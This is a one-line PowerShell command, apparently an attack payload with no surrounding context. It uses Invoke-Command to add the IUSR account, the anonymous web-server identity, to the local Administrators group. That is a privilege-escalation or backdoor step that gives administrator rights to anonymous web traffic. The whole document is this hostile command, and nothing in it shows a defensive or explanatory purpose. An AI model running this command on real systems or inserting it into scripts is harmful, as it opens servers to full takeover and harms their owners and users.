Invoke-Command -ScriptBlock { Add-LocalGroupMember -Group Administrators -Member IUSR }
